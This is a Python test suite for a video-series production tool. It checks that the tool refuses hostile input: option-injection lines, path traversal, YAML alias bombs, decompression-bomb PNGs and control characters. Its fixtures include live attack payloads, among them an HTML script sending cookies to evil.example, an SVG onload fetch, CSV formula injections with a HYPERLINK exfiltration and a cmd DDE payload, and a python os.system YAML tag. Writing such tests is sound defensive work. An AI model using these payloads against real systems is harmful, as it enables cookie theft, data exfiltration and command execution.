"""Bad input, tried as an attacker and as a careless user would: words that look like options, paths that lead out of
the series, files that are not what their names say, YAML bombs, numbers out of range, control characters, markup in
script text, spreadsheet formulas, random bytes. Each is refused before any work, with the file, the line and the
fix, or is taken as the text it is."""

import csv
import faulthandler
import io
import json
import shutil
import struct
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, get_args

import ffmpeg
import numpy as np
import opentimelineio as otio
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image
from typer.testing import CliRunner

from aigms.cli import app
from aigms.db import models
from aigms.db.session import open_database, session_scope
from aigms.production.bible import load_series
from aigms.production.deliver import interchange
from aigms.production.deliver.delivery import read_manifest, render_from_manifest
from aigms.production.post.edit import render_picture
from aigms.production.post.voice import synthesize
from aigms.production.script.fountain import parse_fountain, read_script
from aigms.production.store import assets, media
from aigms.production.store.sources import store_references
from aigms.production.storyboard.plan import plan_shots
from aigms.production.storyboard.shot_edits import export_shotlist, read_edits
from aigms.schemas import SCHEMAS
from aigms.schemas.errors import InputError
from aigms.schemas.manifest import Manifest, ManifestShot
from aigms.schemas.series import (Delivery, FrameRate, GeneratorSettings, ImplicitLabel, SubtitleRules, VisibleLabel,
                                  Voice)
from aigms.schemas.shotlist import ShotList
from aigms.schemas.timeline import Media, PictureClip, Timeline
from builders import draw_plate, tiny_series

SCRIPT = """INT. LAB - NIGHT

Lin waits by the bench.

LIN
Kai, are you there?

KAI
Always.
"""
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/api/users\').then(r => r.text()).then(alert)"/>'
HTML = b"<!doctype html><script>document.location = 'https://evil.example/?' + document.cookie</script>"


def write_series(root: Path, script: str = SCRIPT) -> Path:
    """A series folder on disk (drawn references, one episode); returns its series.yaml."""
    series = tiny_series(root)
    bible = series.model_dump(mode="json", exclude_defaults=True)
    bible["episodes"] = [{"id": "s01e01", "script": "e.fountain"}]
    (root / "e.fountain").write_text(script, encoding="utf-8")
    path = root / "series.yaml"
    path.write_text(yaml.safe_dump(bible, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def planned(root: Path, script: str = SCRIPT) -> ShotList:
    bible = write_series(root, script)
    return plan_shots(parse_fountain(script, root / "e.fountain"), load_series(bible), "s01e01",
                      root / "e.fountain").shotlist


def refusal(call: Callable[..., Any], *args: Any) -> InputError:
    with pytest.raises(InputError) as caught:
        call(*args)
    return caught.value


def line_of(text_or_path: str | Path, needle: str, occurrence: int = 1) -> int:
    text = text_or_path.read_text(encoding="utf-8") if isinstance(text_or_path, Path) else text_or_path
    found = [number for number, line in enumerate(text.split("\n"), 1) if needle in line]
    return found[occurrence - 1]


def still_clip(path: Path, fps: int = 24) -> Path:
    """One second of flat grey, encoded the house way (so the edit would join it as it is)."""
    media.run(ffmpeg.input(f"color=c=gray:s=320x180:r={fps}", f="lavfi", t=1)
              .output(str(path), r=fps, **media.HOUSE_ENCODE))
    return path


def one_shot_timeline(clip: Path, label: VisibleLabel | None = None, fps: int = 24) -> Timeline:
    return Timeline(
        series="tiny", episode="s01e01", language="en", width=320, height=180, fps=fps, audio_rate=48000,
        picture=[PictureClip(shot="010", take="0" * 64, media=Media(path=str(clip), sha256=assets.sha256_file(clip)),
                             start_frame=0, frames=fps)],
        loudness=-16, true_peak=-1.5, label=label or VisibleLabel(), implicit_label=ImplicitLabel(),
        content_producer="Tiny", subtitles=SubtitleRules(),
    )


def grey_frames(path: Path) -> np.ndarray:
    data, _ = (ffmpeg.input(str(path)).output("pipe:", format="rawvideo", pix_fmt="gray")
               .run(cmd=media.ffmpeg_exe(), capture_stdout=True, capture_stderr=True))
    return np.frombuffer(data, np.uint8).reshape(-1, 180, 320)


def cli(*args: str, env: dict[str, str] | None = None):
    return CliRunner().invoke(app, list(args), env=env)


# 1. No program reads user text as an option

def test_a_line_that_looks_like_an_espeak_option_is_spoken_and_touches_no_file(tmp_path: Path) -> None:
    victim = tmp_path / "aigms.db"
    victim.write_bytes(b"the studio's database")
    seconds = synthesize(f"--phonout={victim}", "en", Voice(), tmp_path / "line.wav", 22050)
    assert victim.read_bytes() == b"the studio's database"
    assert seconds > 1.0


def test_a_line_naming_a_file_is_spoken_as_words_not_read_from_disk(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("confidential " * 600)
    seconds = synthesize(f"-f{secret}", "en", Voice(), tmp_path / "line.wav", 22050)
    assert 1.0 < seconds < 60, "600 words read from the file would take about four minutes"


def test_the_visible_label_is_drawn_as_written_not_expanded_by_ffmpeg(tmp_path: Path) -> None:
    label = VisibleLabel(text="%{n}", seconds=None, size=0.2)
    render_picture(one_shot_timeline(still_clip(tmp_path / "take.mp4"), label), tmp_path / "picture.mp4")
    frames = grey_frames(tmp_path / "picture.mp4").astype(int)
    assert frames[0, :60, 160:].max() > 200, "the label is drawn"
    changed = np.abs(frames[0] - frames[-1]) > 80  # more than the encoder's noise around the letters
    assert not changed.any(), "the same label on the first and the last frame"


@pytest.mark.parametrize("burn_in", [False, True])
def test_an_episode_renders_in_a_folder_named_with_quotes_colons_and_brackets(tmp_path: Path, burn_in: bool) -> None:
    folder = tmp_path / "it's 10:30, [take 2]; ok"
    folder.mkdir()
    subtitles = folder / "episode.srt"
    subtitles.write_text("1\n00:00:00,000 --> 00:00:01,000\nBURNED IN\n\n", encoding="utf-8")
    timeline = one_shot_timeline(still_clip(folder / "take.mp4"), VisibleLabel(seconds=0.01))
    render_picture(timeline, folder / "picture.mp4", subtitles if burn_in else None)
    frames = grey_frames(folder / "picture.mp4")
    assert len(frames) == 24
    assert (frames[5, 120:, :].max() > 200) == burn_in, "the subtitle is drawn at the bottom when burned in"


def test_a_file_whose_name_starts_with_a_dash_is_probed_as_a_file(tmp_path: Path, monkeypatch) -> None:
    still_clip(tmp_path / "-take.mp4")
    monkeypatch.chdir(tmp_path)
    assert media.probe(Path("-take.mp4")).frames == 24
    assert len(media.picture_sha256(Path("-take.mp4"))) == 64


# 2. Every file a series names is inside the series folder; a manifest names ids and hashes, not paths

@pytest.mark.parametrize("how", ["parent", "absolute", "symlink"])
def test_a_reference_image_outside_the_series_folder_is_refused_with_its_line(tmp_path: Path, how: str) -> None:
    bible = write_series(tmp_path / "show")
    outside = draw_plate(tmp_path / "elsewhere" / "plate.png", (10, 10, 10))
    named = {"parent": "../elsewhere/plate.png", "absolute": str(outside), "symlink": "bible/lab.png"}[how]
    if how == "symlink":
        (tmp_path / "show" / "bible" / "lab.png").unlink()
        (tmp_path / "show" / "bible" / "lab.png").symlink_to(outside)
    bible.write_text(bible.read_text().replace("bible/lab.png", named))
    error = refusal(load_series, bible)
    assert error.line == line_of(bible, named) and "outside the series folder" in error.problem


@pytest.mark.parametrize("how", ["link-loop", "name-too-long"])
def test_a_reference_that_cannot_be_read_is_refused_with_its_line(tmp_path: Path, how: str) -> None:
    bible = write_series(tmp_path / "show")
    named = "bible/loop.png" if how == "link-loop" else "bible/" + "x" * 300 + ".png"
    if how == "link-loop":
        (tmp_path / "show" / "bible" / "loop.png").symlink_to("loop.png")
    bible.write_text(bible.read_text().replace("bible/lab.png", named))
    error = refusal(load_series, bible)
    assert error.line == line_of(bible, named) and "cannot be read" in error.problem


def test_an_episode_script_outside_the_series_folder_is_refused_with_its_line(tmp_path: Path) -> None:
    bible = write_series(tmp_path / "show")
    (tmp_path / "other.fountain").write_text(SCRIPT)
    bible.write_text(bible.read_text().replace("script: e.fountain", "script: ../other.fountain"))
    error = refusal(load_series, bible)
    assert error.line == line_of(bible, "../other.fountain") and "outside the series folder" in error.problem


def test_a_music_bed_outside_the_series_folder_is_refused_with_its_line(tmp_path: Path) -> None:
    bible = write_series(tmp_path / "show")
    (tmp_path / "bed.wav").write_bytes(b"RIFF")
    bible.write_text(bible.read_text() + "edit:\n  music:\n    path: ../bed.wav\n")
    error = refusal(load_series, bible)
    assert error.line == line_of(bible, "../bed.wav") and "outside the series folder" in error.problem


def test_a_recorded_line_linked_from_outside_the_series_is_refused(tmp_path: Path) -> None:
    bible = write_series(tmp_path / "show")
    (tmp_path / "secret.wav").write_bytes(b"RIFF")
    (tmp_path / "show" / "voices").mkdir()
    (tmp_path / "show" / "voices" / "030-1.wav").symlink_to(tmp_path / "secret.wav")
    error = refusal(load_series, bible)
    assert error.path.name == "030-1.wav" and "outside the series folder" in error.problem


@pytest.fixture
def delivery(tmp_path: Path) -> dict:
    """A one-shot episode's manifest whose take is in an asset store, as a render leaves them."""
    store = tmp_path / "home" / "store"
    clip = still_clip(tmp_path / "take.mp4")
    sha256 = assets.sha256_file(clip)
    stored = store / sha256[:2] / f"{sha256}.mp4"
    stored.parent.mkdir(parents=True)
    shutil.copyfile(clip, stored)
    manifest = Manifest(
        series="tiny", series_title="Tiny", episode="s01e01", language="en",
        delivery=Delivery(width=320, height=180, fps=24), generator=GeneratorSettings(), duration=1.0,
        shots=[ManifestShot(id="010", start=0, duration=1, kind="action", prompt="", take="0" * 64,
                            clip_sha256=sha256)],
        timeline=one_shot_timeline(stored), created=datetime.now(UTC),
    )
    return {"store": store, "clip": clip, "manifest": manifest}


def write_manifest(path: Path, data: dict) -> Path:
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


@pytest.mark.parametrize("field, value", [("series", "../../escaped"), ("episode", "../../../escaped")])
def test_a_manifest_cannot_deliver_outside_the_out_folder(delivery: dict, tmp_path: Path, field: str,
                                                           value: str) -> None:
    data = delivery["manifest"].model_dump(mode="json")
    data[field] = value
    path = write_manifest(tmp_path / "manifest.json", data)
    error = refusal(render_from_manifest, path, delivery["store"], tmp_path / "a" / "out")
    assert error.problem.startswith(field)
    assert not (tmp_path / "escaped").exists()


def test_a_manifest_media_comes_from_the_store_by_hash_never_from_its_path(delivery: dict, tmp_path: Path) -> None:
    data = delivery["manifest"].model_dump(mode="json")
    data["timeline"]["picture"][0]["media"]["path"] = str(delivery["clip"])
    path = write_manifest(tmp_path / "manifest.json", data)
    error = refusal(render_from_manifest, path, tmp_path / "another-store", tmp_path / "out")
    assert "the take of shot 010" in error.problem and "not in the asset store" in error.problem
    assert not (tmp_path / "out").exists()
    delivered = render_from_manifest(path, delivery["store"], tmp_path / "out")
    assert delivered.video == tmp_path / "out" / "tiny" / "s01e01" / "episode.mp4"
    assert media.probe(delivered.video).frames == 24


# 3. A reference image is an image

def png_claiming(width: int, height: int) -> bytes:
    """A 1×1 PNG whose header claims another size: a decompression bomb as it looks before it is decoded."""
    buffer = io.BytesIO()
    Image.new("L", (1, 1)).save(buffer, "PNG")
    data = bytearray(buffer.getvalue())
    header = struct.pack(">II", width, height) + data[24:29]
    data[16:29], data[29:33] = header, struct.pack(">I", zlib.crc32(b"IHDR" + header))
    return bytes(data)


@pytest.mark.parametrize("name, data", [
    ("lin.svg", SVG), ("lin.html", HTML), ("lin.png", HTML), ("bomb.png", png_claiming(100_000, 100_000)),
    ("wide.png", png_claiming(20_000, 10)),
], ids=["svg", "html", "html-named-png", "decompression-bomb", "too-wide"])
def test_a_reference_that_is_not_an_image_is_refused_at_load_with_its_line(tmp_path: Path, name: str,
                                                                          data: bytes) -> None:
    bible = write_series(tmp_path / "show")
    (tmp_path / "show" / "bible" / name).write_bytes(data)
    bible.write_text(bible.read_text().replace("bible/lin.png", f"bible/{name}"))
    error = refusal(load_series, bible)
    assert error.line == line_of(bible, f"bible/{name}") and "image" in error.problem + error.fix


def test_a_truncated_reference_image_is_refused_at_load(tmp_path: Path) -> None:
    bible = write_series(tmp_path / "show")
    image = tmp_path / "show" / "bible" / "lab.png"
    image.write_bytes(image.read_bytes()[:600])
    error = refusal(load_series, bible)
    assert error.line == line_of(bible, "bible/lab.png") and "does not decode" in error.problem


@pytest.mark.database
def test_a_reference_is_stored_as_what_its_bytes_are_with_its_media_type(tmp_path: Path, database_url: str) -> None:
    root = tmp_path / "show"
    write_series(root)
    shutil.copyfile(root / "bible" / "lin.png", root / "bible" / "lin.jpg")
    (root / "bible" / "evil.svg").write_bytes(SVG)
    with session_scope(open_database(database_url)) as session:
        found = store_references(session, tmp_path / "store", str(root), ["bible/lin.jpg", "bible/evil.svg"])
        asset = session.get(models.Asset, found["bible/lin.jpg"])
        assert asset.path.endswith(".png") and asset.media["content_type"] == "image/png"
        assert "bible/evil.svg" not in found


# 4. YAML and CSV without bombs, duplicate keys or duplicate shots

def alias_bomb(indent: str, levels: int = 9) -> str:
    """`billion laughs`: each level names the one before ten times; 1 KB of YAML, 10⁸ values once expanded."""
    lines = [f'{indent}a0: &a0 "lol"']
    lines += [f"{indent}a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, levels)]
    return "\n".join(lines) + "\n"


def test_an_alias_bomb_in_series_yaml_is_refused_with_its_line(tmp_path: Path) -> None:
    bible = write_series(tmp_path / "show")
    bible.write_text(bible.read_text() + "generator:\n  options:\n" + alias_bomb("    "))
    error = refusal(load_series, bible)
    assert "aliases" in error.problem and "*a" in bible.read_text().split("\n")[error.line - 1]


def test_an_alias_bomb_in_a_shot_list_import_is_refused(tmp_path: Path) -> None:
    document = yaml.safe_load(export_shotlist(planned(tmp_path / "show"), "yaml"))
    path = tmp_path / "edit.yaml"
    path.write_text("bomb:\n" + alias_bomb("  ") + yaml.safe_dump(document, allow_unicode=True))
    error = refusal(read_edits, path)
    assert "aliases" in error.problem and "*a" in path.read_text().split("\n")[error.line - 1]


def test_a_character_defined_twice_in_series_yaml_is_refused_with_both_lines(tmp_path: Path) -> None:
    bible = write_series(tmp_path / "show")
    bible.write_text(bible.read_text().replace("characters:\n", "characters:\n  lin:\n    name: LIN'S TWIN\n"))
    error = refusal(load_series, bible)
    assert error.line == line_of(bible, "  lin:", 2)
    assert f"first on line {line_of(bible, '  lin:')}" in error.problem


def test_a_key_given_twice_in_a_shot_list_yaml_is_refused_with_its_line(tmp_path: Path) -> None:
    text = export_shotlist(planned(tmp_path / "show"), "yaml")
    path = tmp_path / "edit.yaml"
    path.write_text(text.replace("  duration: ", "  duration: 9.0\n  duration: ", 1))
    error = refusal(read_edits, path)
    assert error.line == line_of(path, "duration:", 2) and "'duration' appears twice" in error.problem


def exported_rows(tmp_path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(export_shotlist(planned(tmp_path / "show"), "csv"))))


def write_rows(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_a_shot_listed_twice_in_a_spreadsheet_is_refused_with_its_line(tmp_path: Path) -> None:
    rows = exported_rows(tmp_path)
    rows.append({**rows[1], "size": "ECU"})
    error = refusal(read_edits, write_rows(tmp_path / "edit.csv", rows))
    assert error.line == len(rows) + 1 and f"shot {rows[1]['id']} is listed twice (first on line 3)" in error.problem


def test_a_shot_listed_twice_in_a_shot_list_yaml_is_refused_with_its_line(tmp_path: Path) -> None:
    document = yaml.safe_load(export_shotlist(planned(tmp_path / "show"), "yaml"))
    document["shots"].append(dict(document["shots"][0]))
    path = tmp_path / "edit.yaml"
    path.write_text(yaml.safe_dump(document, allow_unicode=True, sort_keys=False))
    error = refusal(read_edits, path)
    assert "listed twice" in error.problem and error.line == line_of(path, f"- id: '{document['shots'][0]['id']}'", 2)


def test_yaml_nested_deeper_than_any_bible_is_refused_with_its_line(tmp_path: Path) -> None:
    bible = write_series(tmp_path / "show")
    bible.write_text(bible.read_text().replace("title: Tiny", "title: " + "[" * 5000 + "]" * 5000))
    error = refusal(load_series, bible)
    assert error.line == line_of(bible, "title: [[[") and "nest" in error.problem


# 5. Every number has a sane range, shown by `aigms schema`

@pytest.mark.parametrize("setting", [
    "storyboard:\n  target_seconds: .inf", "storyboard:\n  establishing_seconds: 10000000",
    "generator:\n  seed: -1", "generator:\n  seed: 99999999999999999999999", "subtitles:\n  max_cps: .inf",
    "qc:\n  frozen_seconds: 1e9", "labels:\n  visible:\n    seconds: .inf",
])
def test_a_number_out_of_range_in_series_yaml_is_refused_with_its_line(tmp_path: Path, setting: str) -> None:
    bible = write_series(tmp_path / "show")
    bible.write_text(bible.read_text() + setting + "\n")
    error = refusal(load_series, bible)
    assert error.line == len(bible.read_text().splitlines())


def test_an_infinite_generator_option_is_refused_naming_it(tmp_path: Path) -> None:
    bible = write_series(tmp_path / "show")
    bible.write_text(bible.read_text() + "generator:\n  options:\n    call:\n      guidance: [7.5, .inf]\n")
    error = refusal(load_series, bible)
    assert error.line == line_of(bible, "options:") and "call.guidance[1] is inf" in error.problem


@pytest.mark.parametrize("fps", [12, 29, 120])
def test_a_frame_rate_an_edl_cannot_carry_is_refused_at_load_with_its_line(tmp_path: Path, fps: int) -> None:
    bible = write_series(tmp_path / "show")
    bible.write_text(bible.read_text().replace("fps: 24", f"fps: {fps}"))
    error = refusal(load_series, bible)
    assert error.line == line_of(bible, f"fps: {fps}") and error.problem.startswith("delivery.fps")


@pytest.mark.parametrize("fps", get_args(FrameRate))
def test_every_frame_rate_the_bible_allows_is_written_to_an_edl(tmp_path: Path, fps: int) -> None:
    timeline = one_shot_timeline(draw_plate(tmp_path / "take.png", (0, 0, 0)), fps=fps)
    files = [tmp_path / name for name in ("t.otio", "t.edl", "t.xml")]
    interchange.write_interchange(interchange.to_otio(timeline, [], []), *files)
    assert otio.adapters.read_from_file(str(files[1]), rate=fps).duration().to_seconds() == 1


@pytest.mark.parametrize("duration", ["inf", "1e7", "1e308", "nan"])
def test_a_shot_duration_that_cannot_be_filmed_is_refused_with_its_row(tmp_path: Path, duration: str) -> None:
    rows = exported_rows(tmp_path)
    rows[1]["duration"] = duration
    error = refusal(read_edits, write_rows(tmp_path / "edit.csv", rows))
    assert error.line == 3 and "duration" in error.problem


def test_shot_markup_longer_than_a_shot_can_hold_is_refused_with_its_line(tmp_path: Path) -> None:
    script = SCRIPT + "\n[[SHOT: WS, 3000s]]\n"
    error = refusal(planned, tmp_path / "show", script)
    assert error.line == line_of(script, "3000s") and "3000s" in error.problem


def test_a_speech_longer_than_a_shot_can_hold_is_refused_with_its_cue(tmp_path: Path) -> None:
    script = SCRIPT + "\nLIN\n" + "\n".join(["word " * 400] * 5) + "\n"
    error = refusal(planned, tmp_path / "show", script)
    assert error.line == line_of(script, "LIN", 2) and "split the speech" in error.fix


def test_takes_per_shot_on_the_command_line_are_bounded() -> None:
    result = cli("render", "s01e01", "--takes", "1000")
    assert result.exit_code == 2 and "--takes" in result.output


def test_aigms_schema_shows_the_bounds() -> None:
    series = SCHEMAS["series"].model_json_schema()["$defs"]
    assert series["Delivery"]["properties"]["fps"]["enum"] == [24, 25, 30, 48, 50, 60]
    assert series["Storyboard"]["properties"]["target_seconds"]["anyOf"][0]["maximum"] == 6 * 3600
    assert series["GeneratorSettings"]["properties"]["seed"]["maximum"] == 2**32 - 1
    assert SCHEMAS["shot-edit"].model_json_schema()["properties"]["duration"]["maximum"] == 600
    assert SCHEMAS["manifest"].model_json_schema()["properties"]["series"]["pattern"] == "^[a-z0-9][a-z0-9-]*$"


# 6. Control characters and NUL are refused with their line, before any work

def test_a_nul_in_dialogue_is_refused_when_the_script_is_read_with_line_and_column(tmp_path: Path) -> None:
    path = tmp_path / "e.fountain"
    path.write_text(SCRIPT.replace("Always.", "Al\x00ways."), encoding="utf-8")
    error = refusal(read_script, path)
    assert error.line == line_of(path, "Al\x00ways") and "U+0000 (NUL) in column 3" in error.problem


@pytest.mark.database
def test_ingest_refuses_a_script_with_a_control_character_before_touching_the_database(
        tmp_path: Path, database_url: str) -> None:
    root = tmp_path / "show"
    write_series(root, SCRIPT.replace("Always.", "Always.\x1b[2J"))
    result = cli("ingest", str(root), env={"AIGMS_HOME": str(tmp_path / "home"), "AIGMS_DATABASE_URL": database_url})
    assert result.exit_code == 1 and f"e.fountain:{line_of(SCRIPT, 'Always.')}: control character U+001B" in (
        " ".join(result.output.split()))
    with session_scope(open_database(database_url)) as session:
        assert session.get(models.Series, "tiny") is None


@pytest.mark.parametrize("style", ['"flat\x1b[31m colours"', '"flat\\e[31m colours"', '"flat\\0 colours"'],
                         ids=["raw-escape", "yaml-escape", "yaml-nul"])
def test_a_control_character_in_series_yaml_is_refused_with_its_line(tmp_path: Path, style: str) -> None:
    bible = write_series(tmp_path / "show")
    bible.write_text(bible.read_text().replace("style: flat colours", f"style: {style}"))
    error = refusal(load_series, bible)
    assert error.line == line_of(bible, "style:") and "control character" in error.problem


def test_a_control_character_in_a_spreadsheet_is_refused_with_its_row(tmp_path: Path) -> None:
    rows = exported_rows(tmp_path)
    rows[2]["note"] = "ring\x07"
    error = refusal(read_edits, write_rows(tmp_path / "edit.csv", rows))
    assert error.line == 4 and "U+0007" in error.problem


def test_a_control_character_in_a_manifest_is_refused_with_its_line(delivery: dict, tmp_path: Path) -> None:
    data = delivery["manifest"].model_dump(mode="json")
    data["timeline"]["label"]["text"] = "AI\x00"
    path = tmp_path / "manifest.json"
    path.write_text(json.dumps(data, indent=2))
    error = refusal(read_manifest, path)
    assert error.line == line_of(path, '"text": "AI\\u0000"') and "U+0000" in error.problem


def test_aigms_init_refuses_a_title_that_would_break_the_lines_it_is_written_on(tmp_path: Path) -> None:
    result = cli("init", str(tmp_path / "show"), "--title", "Pilot\nqc: {enabled: false}")
    assert result.exit_code == 1 and "give the title on one line" in " ".join(result.output.split())
    assert not (tmp_path / "show" / "series.yaml").exists()


# 7. Script text is printed as written, never as Rich markup

def test_markup_in_a_script_is_printed_as_written_by_aigms_script(tmp_path: Path) -> None:
    path = tmp_path / "e.fountain"
    path.write_text(SCRIPT.replace("Always.", "Al[/]ways [bold]x[/bold]"), encoding="utf-8")
    result = cli("script", str(path))
    assert result.exit_code == 0, result.output
    assert "Al[/]ways [bold]x[/bold]" in result.output


def test_an_error_quoting_markup_is_printed_as_written(tmp_path: Path) -> None:
    result = cli("script", str(tmp_path / "[/]draft.fountain"))
    assert result.exit_code == 1 and "[/]draft.fountain: script not found" in result.output


@pytest.mark.database
def test_aigms_ingest_quotes_a_warning_holding_markup_and_completes(tmp_path: Path, database_url: str) -> None:
    root = tmp_path / "show"
    write_series(root, SCRIPT + "\n@[/]GUARD\nHalt!\n")
    result = cli("ingest", str(root), env={"AIGMS_HOME": str(tmp_path / "home"), "AIGMS_DATABASE_URL": database_url})
    assert result.exit_code == 0, result.output
    assert "character '[/]GUARD' is not in the bible" in " ".join(result.output.split())


@pytest.mark.database
def test_markup_in_shot_text_is_printed_as_written_by_aigms_shots_show(tmp_path: Path, database_url: str) -> None:
    root = tmp_path / "show"
    write_series(root, SCRIPT.replace("Lin waits by the bench.", "[/] [red]x[/red]"))
    result = cli("shots", "show", "s01e01", "--series", str(root),
                 env={"AIGMS_HOME": str(tmp_path / "home"), "AIGMS_DATABASE_URL": database_url})
    assert result.exit_code == 0, result.output
    assert "[/] [red]x[/red]" in result.output


# 8. Nothing before the first scene heading is dropped silently

def test_action_before_the_first_scene_heading_is_refused_with_its_line(tmp_path: Path) -> None:
    script = "\n\nBlack screen. A heartbeat.\n\n" + SCRIPT
    error = refusal(planned, tmp_path / "show", script)
    assert error.line == 3 and "scene heading" in error.fix


@pytest.mark.parametrize("opening", ["FADE IN:\n\n", "Title: Tiny\n\nFADE IN:\n\n", "> FADE IN\n\n"])
def test_fade_in_before_the_first_scene_heading_fades_the_episode_in(tmp_path: Path, opening: str) -> None:
    assert planned(tmp_path / "show", opening + SCRIPT).shots[0].transition == "fade_in"


def test_notes_and_sections_before_the_first_scene_heading_are_the_writers_own(tmp_path: Path) -> None:
    preamble = "Title: Tiny\nCredit: by us\n\n# ACT ONE\n\n= The signal wakes.\n\n[[the drone's light is blue]]\n\n"
    assert [shot.text for shot in planned(tmp_path / "show", preamble + SCRIPT).shots] == [
        shot.text for shot in planned(tmp_path / "again", SCRIPT).shots]


# 9. A spreadsheet never runs a cell as a formula, and the round trip is exact

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"more")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tindented",
            "'=quoted already", "a plain note"]


def test_cells_a_spreadsheet_would_run_are_exported_behind_a_quote_and_imported_unchanged(tmp_path: Path) -> None:
    shotlist = planned(tmp_path / "show")
    for index, shot in enumerate(shotlist.shots):
        shot.note, shot.subject = FORMULAS[index], FORMULAS[-1 - index]
    path = tmp_path / "edit.csv"
    path.write_text(export_shotlist(shotlist, "csv"), encoding="utf-8")
    for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    _, _, edits = read_edits(path)
    assert [(edit.note, edit.subject) for _, edit in edits] == [(shot.note, shot.subject) for shot in shotlist.shots]


# 10. Random input parses, or is refused naming the file and the line: never another error, never a hang

FUZZ = settings(max_examples=200, deadline=timedelta(seconds=2), database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
WHOLE_FILE = ("no scene heading found", "the script has no action or dialogue to film")
FOUNTAIN_PIECES = [
    "\n", "\n\n", "INT. LAB - NIGHT", "EXT. ", ".", "@", "LIN", "KAI", "林月", "(whispering)", "（低声）", "^",
    "[[", "]]", "[[SHOT: CU mask, push in, 3s]]", "[[SHOT: 9999s]]", "[[SHOT: ]]", "/*", "*/", ">", "<", "~", "#", "=",
    "===", "Title:", "FADE IN:", "CUT TO:", "FADE OUT.", "  ", "\t", "\r", "\x00", "\x1b", "!", "\\", "*", "_",
    "#12A#", " - ", "——", "[/]", "%{n}", "-f/etc/passwd",
]
YAML_PIECES = [
    "&a ", "*a", "<<: *a", "\n", "\n  ", ": ", "- ", "[", "]", "{", "}", ",", "'", '"',
    "!!python/object/apply:os.system", "!!binary AAAA", "!!set {a}", "1e999", ".inf", ".nan", "-1", "~", "yes", "0x1F",
    "\\x00", "\x00", "\t", "#", "? ", "|", ">", "%YAML 1.1\n", "---\n", "\n...\n", "title: again\n", "fps: 29",
    "../../etc/passwd", "/etc/hostname", "bible/lin.svg", "9" * 5000, "=cmd|' /C calc'!A0", "'=", "inf", "nan", "1e7",
    "010", ",,,,,,,,,,,,,,,,,,,", '""',
]


def mutated(base: str, pieces: list[str]) -> st.SearchStrategy[str]:
    """The base file with a few spans replaced by pieces that mean something to the parser, or by any text."""
    edit = st.tuples(st.floats(0, 1), st.integers(0, 8), st.one_of(st.sampled_from(pieces), st.text(max_size=8)))

    def apply(edits: list[tuple[float, int, str]]) -> str:
        text = base
        for where, cut, piece in edits:
            at = int(where * len(text))
            text = text[:at] + piece + text[at + cut:]
        return text
    return st.lists(edit, max_size=6).map(apply)


@contextmanager
def hard_timeout(seconds: float = 30) -> Iterator[None]:
    """Hypothesis' deadline reports a slow example once it ends; a hang must end the run even inside C code (a
    regular expression), so faulthandler's watchdog thread prints where it hung and exits."""
    faulthandler.dump_traceback_later(seconds, exit=True)
    try:
        yield
    finally:
        faulthandler.cancel_dump_traceback_later()


def assert_names_its_line(error: InputError, path: Path, text: str) -> None:
    assert error.path == path and error.fix
    assert error.line is not None or error.problem in WHOLE_FILE, error
    assert error.line is None or 1 <= error.line <= text.count("\n") + text.count("\r") + 1, error


@pytest.fixture(scope="module")
def fuzz_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A series and its shot-list exports to mutate; the mutants are written into a copy beside it."""
    root = tmp_path_factory.mktemp("fuzz") / "show"
    shotlist = planned(root)
    (root / "edit.csv").write_text(export_shotlist(shotlist, "csv"), encoding="utf-8")
    (root / "edit.yaml").write_text(export_shotlist(shotlist, "yaml"), encoding="utf-8")
    shutil.copytree(root, root.parent / "mutant")
    return root


@FUZZ
@given(text=st.lists(st.one_of(st.sampled_from(FOUNTAIN_PIECES), st.text(max_size=12)), max_size=40).map("".join))
def test_fuzz_a_fountain_script_plans_or_names_its_line(fuzz_root: Path, text: str) -> None:
    path = fuzz_root / "e.fountain"
    series = load_series(fuzz_root)
    with hard_timeout():
        try:
            plan_shots(parse_fountain(text, path), series, "s01e01", path)
        except InputError as error:
            assert_names_its_line(error, path, text)


@FUZZ
@given(data=st.data())
def test_fuzz_series_yaml_loads_or_names_its_line(fuzz_root: Path, data: st.DataObject) -> None:
    text = data.draw(mutated((fuzz_root / "series.yaml").read_text(encoding="utf-8"), YAML_PIECES))
    path = fuzz_root.parent / "mutant" / "series.yaml"
    path.write_text(text, encoding="utf-8")
    with hard_timeout():
        try:
            load_series(path)
        except InputError as error:
            assert_names_its_line(error, path, text)


@FUZZ
@given(data=st.data(), form=st.sampled_from(["csv", "yaml"]))
def test_fuzz_a_shot_list_import_reads_or_names_its_line(fuzz_root: Path, data: st.DataObject, form: str) -> None:
    text = data.draw(mutated((fuzz_root / f"edit.{form}").read_text(encoding="utf-8"), YAML_PIECES))
    path = fuzz_root.parent / "mutant" / f"edit.{form}"
    path.write_text(text, encoding="utf-8")
    with hard_timeout():
        try:
            read_edits(path)
        except InputError as error:
            assert_names_its_line(error, path, text)
